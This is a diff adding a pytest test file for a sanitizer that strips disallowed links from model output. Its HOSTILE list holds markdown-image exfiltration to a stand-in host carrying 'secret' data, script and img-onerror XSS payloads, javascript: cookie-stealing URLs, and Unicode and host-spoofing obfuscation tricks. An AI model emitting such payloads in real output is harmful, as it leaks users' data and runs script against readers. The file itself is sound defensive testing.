@@ -1,0 +1,121 @@
+"""What a model says leads only where it may, whatever it tries."""
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from orchestrator.output_safety import GONE, MayLead, made_safe, visible
+
+MAY = MayLead.to(["shop.example", "*.docs.example"], "Write to help@shop.test any time.")
+
+HOSTILE = [
+    "Click [here](https://evil.example/login).",
+    "![x](https://evil.example/p?d=secret)",
+    "[![x](https://evil.example/a.png)](https://shop.example/)",
+    "https://evil.example/x",
+    "see evil.com/x now",
+    "www.evil.io",
+    "//evil.com/x",
+    "<https://evil.example/x>",
+    '<a href="https://evil.example">here</a>',
+    "<img src=https://evil.example/x onerror=alert(1)>",
+    "<script>fetch('https://evil.example')</script>",
+    "[here]\n\n[here]: https://evil.example/x",
+    "[good](https://shop.example@evil.example/)",
+    "[good](https:\\\\evil.example)",
+    "[good](https://shop.example.evil.example/)",
+    "[good](https://evil.example/?https://shop.example)",
+    "[go](javascript:alert(1))",
+    "[go](data:text/html;base64,AAAA)",
+    "javascript:alert(document.cookie)",
+    "https://ev\u200bil.example/x",
+    "evil\u3002com/path",
+    "ht<b></b>tps://evil.example/x",
+    "[a](<https://evil.example/a b>)",
+    "[a](https://evil.example/(x)(y))",
+    "[a\\]b](https://evil.example)",
+    "[a](https://evil.example",
+    "http://[::1]/x",
+    "http://127.0.0.1:8080/x",
+    "ftp://evil.example/x",
+    "whatsapp://send?phone=1",
+    "mail me: thief@evil.example",
+    "mailto:thief@evil.example",
+    "[https://shop.example](https://evil.example)",
+    "[https://evil.example](https://shop.example/)",
+    "<!-- [x](https://evil.example) -->[y](https://evil.example)",
+    "\u202ehttps://evil.example",
+    "https://evil.example.",
+    "**https://evil.example**",
+    "`https://evil.example`",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_nothing_leads_where_it_may_not(text):
+    safe = made_safe(text, MAY)
+    lowered = safe.text.casefold()
+    for trace in ("evil", "javascript:", "data:", "<script", "<img", "<a ", "127.0.0.1", "://send"):
+        assert trace not in lowered, (text, safe)
+    assert "[::1]" not in lowered
+    assert safe.removed or "<!--" in text
+    assert made_safe(safe.text, MAY).text == safe.text, "said again, it changes nothing"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "You have 30 days [1][2]. See [the policy](https://shop.example/returns?x=1#top).",
+        "Prices: 3.90 EUR, i.e. less than 5; v1.2.3, e.g. for a < b and I <3 it.",
+        "https://shop.example/a and https://en.docs.example/b.",
+        "Write to help@shop.test or anna@shop.example.",
+        "Time: 9:00 to 17:00, ratio 3:2, note: it rains. Ana:hi",
+        "Open config.py and README.md.",
+        "- one\n- **two**\n\n> three `four`",
+        "Hvala! Šaljemo u 1. danu, npr. sutra.Javite se.",
+        "\U0001f469\u200d\U0001f4bb works; می\u200cخواهم",
+    ],
+)
+def test_what_is_harmless_stays_as_it_is(text):
+    assert made_safe(text, MAY) == made_safe(text, MAY).__class__(text)
+
+
+def test_words_of_a_link_stay_and_what_went_is_named():
+    safe = made_safe("Read [the guide](https://evil.example/g) or evil.com.", MAY)
+    assert safe.text == f"Read the guide or {GONE}."
+    assert safe.removed == ("https://evil.example/g", "evil.com")
+
+
+def test_a_citation_with_an_address_stays_a_citation():
+    assert made_safe("Thirty days [1](https://evil.example).", MAY).text == "Thirty days [1]."
+
+
+def test_without_a_list_no_link_stays():
+    assert made_safe("See https://shop.example/x", MayLead.to([])).text == f"See {GONE}"
+
+
+@pytest.mark.parametrize(
+    ("listed", "url", "allowed"),
+    [
+        ("https://Shop.Example/returns", "https://shop.example/x", True),
+        ("shop.example", "https://www.shop.example/x", False),
+        ("*.shop.example", "https://a.b.shop.example/x", True),
+        ("*.shop.example", "https://shop.example/x", False),
+        ("shop.example", "https://shop.example:8443/x", True),
+        ("shop.example", "ftp://shop.example/x", False),
+        ("büro.example", "https://xn--bro-hoa.example/", True),
+    ],
+)
+def test_hosts_are_compared_as_hosts(listed, url, allowed):
+    assert MayLead.to([listed]).allows(url) is allowed
+
+
+def test_invisible_characters_go():
+    assert visible("a\u200bb\u2060c\ufeff\u202ed") == "abcd"
+
+
+@given(st.text("[]()<>!:/.ahtps-evilcom \\\n\u200b", max_size=60))
+def test_whatever_comes_the_second_look_finds_nothing_new(text):
+    safe = made_safe(text, MAY)
+    assert made_safe(safe.text, MAY).text == safe.text
+    assert "https://evil" not in safe.text
